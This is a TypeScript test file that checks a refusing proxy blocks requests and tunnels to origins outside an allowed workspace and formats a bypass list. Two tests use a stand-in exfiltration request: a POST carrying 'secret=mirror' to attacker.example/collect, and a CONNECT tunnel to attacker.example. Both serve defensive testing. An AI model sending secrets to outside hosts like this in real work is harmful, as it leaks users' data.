/**
 * The request gate's refusing proxy without a browser: what it answers a proxied request and a
 * tunnel, what it records, and the bypass list that keeps only the allowed origins direct.
 */
import { once } from "node:events";
import { request } from "node:http";
import { connect } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { type ContextProxy, proxyBypassOf } from "../../src/browser/context-proxy.js";
import { startGateProxy } from "../../src/browser/gate-proxy.js";

let proxy: ContextProxy | undefined;
afterEach(async () => {
  await proxy?.close();
  proxy = undefined;
});

describe("the gate proxy", () => {
  it("answers a proxied request with a 403 that says it was refused, and records its absolute URL", async () => {
    const refused: string[] = [];
    proxy = await startGateProxy((url) => refused.push(url));
    const { port } = new URL(proxy.url);
    const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const outgoing = request({ host: "127.0.0.1", port, method: "POST", path: "http://attacker.example/collect?d=1" }, (response) => {
        let body = "";
        response.on("data", (chunk: Buffer) => {
          body += chunk.toString("utf8");
        });
        response.on("end", () => resolve({ status: response.statusCode ?? 0, body }));
      });
      outgoing.on("error", reject);
      outgoing.end("secret=mirror");
    });
    expect(answer.status).toBe(403);
    expect(answer.body).toContain("outside the workspace; the request was not sent");
    expect(refused).toEqual(["http://attacker.example/collect?d=1"]);
  });

  it("refuses a tunnel with a 403 and records the origin it named", async () => {
    const refused: string[] = [];
    proxy = await startGateProxy((url) => refused.push(url));
    const socket = connect(Number(new URL(proxy.url).port), "127.0.0.1");
    await once(socket, "connect");
    socket.write("CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n\r\n");
    let reply = "";
    socket.on("data", (chunk: Buffer) => {
      reply += chunk.toString("utf8");
    });
    await once(socket, "close");
    expect(reply).toMatch(/^HTTP\/1\.1 403 /);
    expect(refused).toEqual(["https://attacker.example"]);
  });

  it("bypasses each allowed origin by scheme, host and port, the default port written out", () => {
    expect(proxyBypassOf(["http://127.0.0.1:8080", "https://shop.example", "http://forum.example"])).toBe(
      "http://127.0.0.1:8080,https://shop.example:443,http://forum.example:80",
    );
  });
});
